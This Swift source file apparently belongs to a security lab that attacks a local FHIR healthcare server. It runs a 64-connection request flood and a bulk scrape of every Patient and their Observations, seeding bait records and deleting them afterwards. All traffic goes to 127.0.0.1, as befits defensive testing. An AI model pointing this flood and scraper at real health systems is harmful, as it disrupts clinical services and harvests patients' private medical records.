import AsyncHTTPClient
import Foundation
import JSON
import LabSupport
import NIOCore

/// The lab's attacks through the FHIR API, from the host: a request flood and a bulk read of
/// every patient. Both go to 127.0.0.1 only (the base URL the lab's server listens on).
enum APIAttacks {
    struct Flood: Sendable {
        var requests = 0
        var errors = 0
        var seconds = 0.0
        var firstError: String?
    }

    struct Exfiltration: Sendable {
        /// Patients the server said it holds (the searchset's `total`), before the read.
        var present = 0
        var patients = 0
        var observations = 0
        var pages = 0
        /// Patients the scenario created because there were none, and then deleted.
        var seeded = 0
    }

    /// `connections` clients in a closed loop (each sends its next search when the last is
    /// answered) for `seconds`.
    static func flood(baseURL: String, connections: Int = 64, seconds: Double = 3) async -> Flood {
        var configuration = HTTPClient.Configuration()
        configuration.connectionPool.concurrentHTTP1ConnectionsPerHostSoftLimit = connections
        let client = HTTPClient(eventLoopGroupProvider: .singleton, configuration: configuration)
        let start = ContinuousClock.now
        let deadline = start + .milliseconds(Int(seconds * 1000))
        var total = await withTaskGroup(of: Flood.self) { group in
            for worker in 0..<connections {
                group.addTask {
                    var mine = Flood()
                    var page = worker
                    while ContinuousClock.now < deadline {
                        // Searches rather than one cheap read: each costs the server a query.
                        page += 1
                        do {
                            _ = try await get(
                                "\(baseURL)/Patient?_count=10&_page=\(page % 5 + 1)", client: client, timeout: 10)
                            mine.requests += 1
                        } catch {
                            mine.errors += 1
                            if mine.firstError == nil { mine.firstError = "\(error)" }
                        }
                    }
                    return mine
                }
            }
            var sum = Flood()
            for await part in group {
                sum.requests += part.requests
                sum.errors += part.errors
                sum.firstError = sum.firstError ?? part.firstError
            }
            return sum
        }
        total.seconds = elapsed(since: start)
        try? await client.shutdown()
        return total
    }

    /// Pages through every Patient (`_count` and the bundles' `next` links) and, for each, its
    /// Observations, counting the records pulled. When the server holds fewer than `population`
    /// patients, the rest are planted first (two observations each, in one transaction) and
    /// deleted afterwards (in one batch).
    static func exfiltrate(baseURL: String, pageSize: Int = 50, population: Int = AttackLab.exfiltrationPopulation)
        async throws -> Exfiltration
    {
        let client = HTTPClient(eventLoopGroupProvider: .singleton)
        var seeded: [String] = []
        let outcome: Result<Exfiltration, any Error>
        do {
            outcome = .success(
                try await exfiltrate(
                    baseURL: baseURL, pageSize: pageSize, population: population, client: client, seeded: &seeded))
        } catch {
            outcome = .failure(error)
        }
        // Remove what was planted, whatever happened.
        if !seeded.isEmpty {
            let entries = seeded.map { #"{"request":{"method":"DELETE","url":"\#($0)"}}"# }
            _ = try? await post(
                #"{"resourceType":"Bundle","type":"batch","entry":[\#(entries.joined(separator: ","))]}"#, to: baseURL,
                client: client)
        }
        try? await client.shutdown()
        return try outcome.get()
    }

    private static func exfiltrate(
        baseURL: String, pageSize: Int, population: Int, client: HTTPClient, seeded: inout [String]
    ) async throws -> Exfiltration {
        var result = Exfiltration()
        result.present = try await patientTotal(baseURL: baseURL, client: client)
        if result.present < population {
            let planted = try await plant(population - result.present, baseURL: baseURL, client: client)
            // Observations first, so that no reference is left dangling while they are deleted.
            seeded = planted.filter { $0.hasPrefix("Observation/") } + planted.filter { $0.hasPrefix("Patient/") }
            result.seeded = planted.filter { $0.hasPrefix("Patient/") }.count
            result.present = try await patientTotal(baseURL: baseURL, client: client)
        }
        var patients: [String] = []
        var seen: Set<String> = []
        var next: String? = "\(baseURL)/Patient?_count=\(pageSize)"
        while let url = next, result.pages < 100_000 {
            let bundle = try await get(url, client: client, timeout: 30)
            result.pages += 1
            for resource in matches(bundle) where resource["resourceType"]?.stringValue == "Patient" {
                if let id = resource["id"]?.stringValue, seen.insert(id).inserted { patients.append(id) }
            }
            next = link(bundle, "next")
        }
        result.patients = patients.count
        // Each patient's chart, eight at a time: what a scraper does with the ids it just got.
        result.observations = try await withThrowingTaskGroup(of: (Int, Int).self) { group in
            var pending = patients[...]
            func pull(_ patient: String) async throws -> (Int, Int) {
                var count = 0
                var pages = 0
                var next: String? = "\(baseURL)/Observation?subject=Patient/\(patient)&_count=\(pageSize)"
                while let url = next, pages < 10_000 {
                    let bundle = try await get(url, client: client, timeout: 30)
                    pages += 1
                    count += matches(bundle).count
                    next = link(bundle, "next")
                }
                return (count, pages)
            }
            for _ in 0..<8 {
                guard let patient = pending.popFirst() else { break }
                group.addTask { try await pull(patient) }
            }
            var total = 0
            for try await (count, pages) in group {
                total += count
                result.pages += pages
                if let patient = pending.popFirst() { group.addTask { try await pull(patient) } }
            }
            return total
        }
        return result
    }

    /// Whether the server answers its capability statement (`GET metadata`) within 5 s.
    static func answers(baseURL: String) async -> Bool {
        (try? await get("\(baseURL)/metadata", client: .shared, timeout: 5)) != nil
    }

    /// Plants `count` patients with two heart rates each in one transaction: the `Type/id` of
    /// everything created.
    static func plant(_ count: Int, baseURL: String, client: HTTPClient) async throws -> [String] {
        var entries: [String] = []
        for index in 0..<count {
            let birth = String(format: "19%02d-%02d-%02d", 40 + index % 50, 1 + index % 12, 1 + index % 28)
            entries.append(
                #"{"fullUrl":"urn:uuid:lab-bait-\#(index)","resource":{"resourceType":"Patient","name":[{"family":"Lab","given":["Bait\#(index)"]}],"gender":"female","birthDate":"\#(birth)"},"request":{"method":"POST","url":"Patient"}}"#
            )
            for value in [72, 118] {
                entries.append(
                    #"{"resource":{"resourceType":"Observation","status":"final","code":{"coding":[{"system":"http://loinc.org","code":"8867-4"}]},"subject":{"reference":"urn:uuid:lab-bait-\#(index)"},"valueQuantity":{"value":\#(value),"unit":"/min"}},"request":{"method":"POST","url":"Observation"}}"#
                )
            }
        }
        let response = try await post(
            #"{"resourceType":"Bundle","type":"transaction","entry":[\#(entries.joined(separator: ","))]}"#,
            to: baseURL, client: client)
        // Each entry's location: Type/id/_history/1.
        let created = (response["entry"]?.arrayValue ?? []).compactMap { $0["response"]?["location"]?.stringValue }.map
        { location in
            location.split(separator: "/").prefix(2).joined(separator: "/")
        }
        guard created.count == entries.count else {
            throw LabError("planting \(count) patients: \(created.count) of \(entries.count) created")
        }
        return created
    }

    // MARK: - HTTP

    static func patientTotal(baseURL: String, client: HTTPClient) async throws -> Int {
        let bundle = try await get("\(baseURL)/Patient?_count=1&_total=accurate", client: client, timeout: 30)
        guard case .number(let text)? = bundle["total"], let total = Int(text) else {
            throw LabError("GET \(baseURL)/Patient: the searchset has no total")
        }
        return total
    }

    /// The resources of a searchset's entries in search mode `match`.
    static func matches(_ bundle: JSONValue) -> [JSONValue] {
        (bundle["entry"]?.arrayValue ?? []).compactMap { entry in
            entry["search"]?["mode"]?.stringValue == "include" ? nil : entry["resource"]
        }
    }

    static func link(_ bundle: JSONValue, _ relation: String) -> String? {
        bundle["link"]?.arrayValue?.first { $0["relation"]?.stringValue == relation }?["url"]?.stringValue
    }

    /// GET, 200 expected; the body parsed.
    static func get(_ url: String, client: HTTPClient, timeout: Int64) async throws -> JSONValue {
        var request = HTTPClientRequest(url: url)
        request.headers.add(name: "Accept", value: "application/fhir+json")
        let response = try await client.execute(request, timeout: .seconds(timeout))
        let bytes = try await response.body.collect(upTo: 64 << 20)
        guard response.status.code == 200 else { throw LabError("GET \(url): \(response.status.code)") }
        return try JSONParser.parse(bytes.readableBytesView)
    }

    /// POSTs a Bundle to the base URL, 200 expected; the response Bundle.
    static func post(_ bundle: String, to baseURL: String, client: HTTPClient) async throws -> JSONValue {
        var request = HTTPClientRequest(url: baseURL)
        request.method = .POST
        request.headers.add(name: "Accept", value: "application/fhir+json")
        request.headers.add(name: "Content-Type", value: "application/fhir+json")
        request.body = .bytes(ByteBuffer(string: bundle))
        let response = try await client.execute(request, timeout: .seconds(60))
        let bytes = try await response.body.collect(upTo: 64 << 20)
        guard response.status.code == 200 else {
            throw LabError("POST \(baseURL) (Bundle): \(response.status.code) \(String(buffer: bytes).prefix(300))")
        }
        return try JSONParser.parse(bytes.readableBytesView)
    }

    static func elapsed(since start: ContinuousClock.Instant) -> Double {
        let elapsed = start.duration(to: .now)
        return Double(elapsed.components.seconds) + Double(elapsed.components.attoseconds) / 1e18
    }
}
